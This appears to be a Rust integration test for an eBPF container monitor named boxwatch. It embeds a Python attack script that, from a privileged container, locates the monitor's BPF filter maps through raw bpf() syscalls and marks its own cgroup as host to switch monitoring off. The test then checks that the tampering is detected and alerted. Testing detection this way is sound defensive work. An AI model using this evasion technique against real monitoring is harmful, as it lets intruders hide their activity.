//! A privileged container cannot switch boxwatch off (#14 item 3). It finds
//! boxwatch's `cgroup_filter` map by name (BPF_MAP_GET_NEXT_ID), opens it by
//! id, marks its own cgroup as HOST and bumps the filter generation, then
//! writes below /etc for a few seconds. The audit finds the foreign write
//! within a second, restores the filter and raises a Critical alert naming
//! the container; the container's later /etc writes alert again.

use std::time::Duration;

use crate::probe::*;
use crate::support::*;

const ATTACK: &str = r#"
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_BPF = 321

def bpf(cmd, attr):
    buf = ctypes.create_string_buffer(attr, 128)
    r = libc.syscall(NR_BPF, cmd, buf, 128)
    if r < 0:
        raise OSError(ctypes.get_errno(), "bpf(%d)" % cmd)
    return r, buf

# This container's cgroup id: the inode of its cgroup2 directory.
os.makedirs("/mnt/cg2", exist_ok=True)
if libc.mount(b"none", b"/mnt/cg2", b"cgroup2", 0, None) != 0:
    sys.exit("mount cgroup2: errno %d" % ctypes.get_errno())
path = [l.split(":", 2)[2].strip() for l in open("/proc/self/cgroup") if l.startswith("0::")][0]
cgid = os.stat("/mnt/cg2" + path).st_ino

# Every map named cgroup_filter (one per boxwatch daemon), and their generations.
filters, gens, mid = [], [], 0
while True:
    try:
        _, b = bpf(12, struct.pack("III", mid, 0, 0))  # BPF_MAP_GET_NEXT_ID
    except OSError:
        break
    mid = struct.unpack_from("I", b, 4)[0]
    try:
        fd, _ = bpf(14, struct.pack("III", mid, 0, 0))  # BPF_MAP_GET_FD_BY_ID
    except OSError:
        continue
    info = ctypes.create_string_buffer(128)
    bpf(15, struct.pack("IIQ", fd, 128, ctypes.addressof(info)))  # BPF_OBJ_GET_INFO_BY_FD
    _, _, ksz, vsz, _, _ = struct.unpack_from("6I", info.raw, 0)
    name = info.raw[24:40].split(b"\0")[0]
    if name == b"cgroup_filter":
        filters.append(fd)
    elif b"filter_g" in name and ksz == 4 and vsz == 8:
        gens.append(fd)
    else:
        os.close(fd)
if not filters:
    sys.exit("no cgroup_filter map found")

def update(fd, key, value):
    k, v = ctypes.create_string_buffer(key), ctypes.create_string_buffer(value)
    bpf(2, struct.pack("IIQQQ", fd, 0, ctypes.addressof(k), ctypes.addressof(v), 0))  # BPF_MAP_UPDATE_ELEM

HOST = 2
for fd in filters:
    update(fd, struct.pack("Q", cgid), struct.pack("B", HOST))
for fd in gens:
    update(fd, struct.pack("I", 0), struct.pack("Q", 1 << 40))
print("tampered", len(filters), len(gens), flush=True)
t0 = time.monotonic()
for i in range(40):
    open("/etc/bw-after-%d" % i, "w").close()
    time.sleep(0.1)
"#;

#[test]
fn a_privileged_container_cannot_switch_its_monitoring_off() {
    let _exclusive = flood();
    let ctrd = Containerd::start();
    let d = Daemon::start(&["--no-runtime-lookup"]);
    let id = random_container_id();
    let out = ctrd.run_with(
        &id,
        &docker_cgroup(&id),
        &["--privileged"],
        &["python3", "-c", ATTACK],
        Duration::from_secs(60),
    );
    out.assert_success();
    assert!(out.stdout.contains("tampered"), "{}", out.stdout);
    wait_exited(&d, &id);
    let tamper = d.wait_for("the tamper alert", T, |v| {
        v["rule"] == "boxwatch kernel filter tampered with"
            && v["output_fields"]["boxwatch.container.full_id"] == id
    });
    assert_eq!(tamper["priority"], "Critical");
    assert!(tamper["output_fields"]["boxwatch.tamper"].as_str().unwrap().contains("HOST"), "{tamper}");
    // The writes made after the audit healed the filter (it runs every second) alert again.
    let etc: Vec<String> = d
        .container_alerts(&id)
        .iter()
        .filter(|a| a["rule"] == "Write below /etc in a container")
        .filter_map(|a| a["output_fields"]["fd.name"].as_str().map(str::to_owned))
        .collect();
    for i in 25..40 {
        let f = format!("/etc/bw-after-{i}");
        assert!(
            etc.contains(&f),
            "no alert for {f} written {}.{} s after the tamper: {etc:?}",
            i / 10,
            i % 10
        );
    }
    // And the bpf() calls themselves raised the bpf rule.
    assert!(d.container_alerts(&id).iter().any(|a| a["rule"] == "bpf() called in a container"));
}
